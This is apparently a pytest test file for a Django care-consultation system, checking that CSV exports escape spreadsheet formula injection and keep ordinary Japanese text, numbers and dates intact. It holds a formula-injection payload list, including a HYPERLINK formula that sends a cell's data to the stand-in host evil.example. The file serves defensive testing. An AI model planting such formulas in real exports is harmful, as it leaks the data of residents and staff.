"""CSV exports: a value typed by a resident or staff member never runs as a spreadsheet formula."""

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest

from carenet.common.spreadsheet import csv_response, csv_text, safe_cell
from consultations.models import Topic
from tests.conftest import make_consultation, sign_in

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"x")'


@pytest.mark.parametrize(
    "payload",
    [
        HYPERLINK,
        "+SUM(1,1)",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝１＋１",
        "＋",
        "－",
        "＠",
        " =1+1",
        "\u3000＝1",
        "\n=1",
        "-",
    ],
)
def test_a_formula_becomes_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["井の頭", "0422-00-0000", "相談 = 介護", "a@example.invalid", "（未分類）", ""]
)
def test_ordinary_text_is_left_as_it_is(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_none_is_empty():
    assert safe_cell(-3) == -3
    assert safe_cell(2025) == 2025
    assert safe_cell(None) == ""
    assert safe_cell(dt.date(2026, 4, 1)) == "2026-04-01"


def test_csv_text_has_a_bom_crlf_and_neutralised_cells():
    text = csv_text(["名前", "件数"], [[HYPERLINK, 1], ["+1", -1]])
    assert text.startswith("\ufeff名前,件数\r\n")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["名前", "件数"], ["'" + HYPERLINK, "1"], ["'+1", "-1"]]


def test_csv_response_is_an_attachment_in_utf8():
    response = csv_response("相談.csv", ["番号"], [["=1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''%E7%9B%B8%E8%AB%87.csv" in response["Content-Disposition"]
    assert response.content.decode("utf-8") == "\ufeff番号\r\n'=1\r\n"


@pytest.mark.django_db
def test_statistics_csv_does_not_carry_a_formula_from_a_topic_name(client, mitaka_supervisor):
    evil = Topic.objects.create(name=HYPERLINK)
    case = make_consultation(
        "inokashira", received_at=dt.datetime(2025, 5, 1, 10, tzinfo=ZoneInfo("Asia/Tokyo"))
    )
    case.topics.set([evil])
    sign_in(client, mitaka_supervisor)
    response = client.get("/staff/stats.csv", {"year": "2025"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["2025", "5", "井の頭", "電話", "'" + HYPERLINK, "1"] in rows
    assert not any(cell.startswith("=") for row in rows for cell in row)
